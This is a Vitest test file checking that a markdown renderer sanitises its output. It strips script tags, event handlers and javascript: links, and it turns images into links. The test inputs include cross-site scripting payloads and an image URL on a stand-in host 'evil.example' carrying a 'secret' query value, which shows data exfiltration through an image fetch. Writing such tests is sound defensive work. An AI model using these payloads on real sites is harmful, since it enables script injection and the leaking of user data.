// @vitest-environment jsdom
import { describe, expect, it } from 'vitest';
import { renderMarkdown } from '../../src/lib/markdown';

const dom = (md: string) => {
  const div = document.createElement('div');
  div.innerHTML = renderMarkdown(md);
  return div;
};

describe('renderMarkdown', () => {
  it('renders markdown and code blocks with a copy button', () => {
    const div = dom('**bold**\n\n```ts\nconst a = 1 < 2;\n```');
    expect(div.querySelector('strong')?.textContent).toBe('bold');
    expect(div.querySelector('pre code')?.textContent).toBe('const a = 1 < 2;');
    expect(div.querySelector('button[data-copy]')).not.toBeNull();
  });

  it('shows raw HTML as text and keeps no script or handler', () => {
    const div = dom('<script>alert(1)</script>\n\n<img src=x onerror="alert(2)"> <b onclick="alert(3)">b</b>');
    expect(div.querySelector('script, img, [onerror], [onclick]')).toBeNull();
    expect(div.textContent).toContain('<script>alert(1)</script>');
    expect(div.textContent).toContain('<img src=x onerror="alert(2)">');
  });

  it('opens links safely and drops javascript: URLs', () => {
    const div = dom('[ok](https://example.com) [bad](javascript:alert(1))');
    const links = [...div.querySelectorAll('a')];
    const ok = links.find((a) => a.textContent === 'ok')!;
    expect(ok.getAttribute('rel')).toBe('noopener noreferrer');
    expect(ok.getAttribute('target')).toBe('_blank');
    expect(div.innerHTML).not.toMatch(/javascript:/i);
  });

  it('turns images into links so output cannot make the page fetch anything', () => {
    const div = dom('![tracker](https://evil.example/p.png?q=secret)');
    expect(div.querySelector('img')).toBeNull();
    expect(div.querySelector('a')?.getAttribute('href')).toBe('https://evil.example/p.png?q=secret');
  });
});
